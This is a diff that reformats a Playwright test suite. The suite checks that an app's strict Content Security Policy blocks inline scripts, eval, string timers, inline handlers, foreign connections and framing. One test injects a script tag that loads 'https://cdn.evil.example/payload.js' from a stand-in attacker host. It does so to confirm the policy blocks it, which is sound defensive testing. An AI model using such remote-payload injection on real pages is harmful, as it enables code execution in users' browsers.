@@ -35,18 +35,23 @@ async function openApp(page: Page): Promise<void> {
   await page.addInitScript(() => {
     window.cspViolations = [];
     document.addEventListener('securitypolicyviolation', (event) => {
-      window.cspViolations?.push(`${event.violatedDirective} ${event.blockedURI}`);
+      window.cspViolations?.push(
+        `${event.violatedDirective} ${event.blockedURI}`,
+      );
     });
   });
   await page.goto(shell.url);
   await page.getByRole('button', { name: 'Setări' }).waitFor();
 }
 
-const violations = (page: Page) => page.evaluate(() => window.cspViolations ?? []);
+const violations = (page: Page) =>
+  page.evaluate(() => window.cspViolations ?? []);
 
 test('page carries the strict CSP', async ({ page }) => {
   const response = await page.goto(shell.url);
-  expect(response?.headers()['content-security-policy']).toBe(CONTENT_SECURITY_POLICY);
+  expect(response?.headers()['content-security-policy']).toBe(
+    CONTENT_SECURITY_POLICY,
+  );
 });
 
 test('renderer loads without violations', async ({ page }) => {
@@ -76,7 +81,9 @@ test('inline script is blocked', async ({ page }) => {
     return window.inlineScriptRan === true;
   });
   expect(ran).toBe(false);
-  await expect.poll(() => violations(page)).toContainEqual(expect.stringMatching(/^script-src/));
+  await expect
+    .poll(() => violations(page))
+    .toContainEqual(expect.stringMatching(/^script-src/));
 });
 
 // Code that Playwright evaluates runs with CSP's eval check lifted (the
@@ -88,7 +95,13 @@ async function laterInPage(page: Page, attempt: string): Promise<string> {
       new Promise<string>((resolve) => {
         setTimeout(() => {
           try {
-            resolve(String(source === 'eval' ? window.eval('6 * 7') : new Function('return 6 * 7')()));
+            resolve(
+              String(
+                source === 'eval'
+                  ? window.eval('6 * 7')
+                  : new Function('return 6 * 7')(),
+              ),
+            );
           } catch (error) {
             resolve(error instanceof Error ? error.name : String(error));
           }
@@ -112,10 +125,17 @@ test('string timer is blocked', async ({ page }) => {
   await openApp(page);
   await page.evaluate(() => {
     // A string handler is compiled like eval when the timer fires.
-    (window.setTimeout as (handler: string, timeout: number) => number)('window.inlineScriptRan = true', 0);
+    (window.setTimeout as (handler: string, timeout: number) => number)(
+      'window.inlineScriptRan = true',
+      0,
+    );
   });
-  await expect.poll(() => violations(page)).toContainEqual(expect.stringMatching(/^script-src.*eval/));
-  expect(await page.evaluate(() => window.inlineScriptRan === true)).toBe(false);
+  await expect
+    .poll(() => violations(page))
+    .toContainEqual(expect.stringMatching(/^script-src.*eval/));
+  expect(await page.evaluate(() => window.inlineScriptRan === true)).toBe(
+    false,
+  );
 });
 
 test('inline event handler is blocked', async ({ page }) => {
@@ -138,7 +158,9 @@ test('foreign script is blocked', async ({ page }) => {
     script.src = 'https://cdn.evil.example/payload.js';
     document.body.append(script);
   });
-  await expect.poll(() => violations(page)).toContainEqual(expect.stringMatching(/^script-src.*cdn\.evil\.example/));
+  await expect
+    .poll(() => violations(page))
+    .toContainEqual(expect.stringMatching(/^script-src.*cdn\.evil\.example/));
 });
 
 test('foreign connection is blocked', async ({ page }) => {
@@ -152,7 +174,9 @@ test('foreign connection is blocked', async ({ page }) => {
     }
   });
   expect(outcome).toBe('TypeError');
-  await expect.poll(() => violations(page)).toContainEqual(expect.stringMatching(/^connect-src/));
+  await expect
+    .poll(() => violations(page))
+    .toContainEqual(expect.stringMatching(/^connect-src/));
 });
 
 test('other pages cannot frame the app', async ({ page }) => {
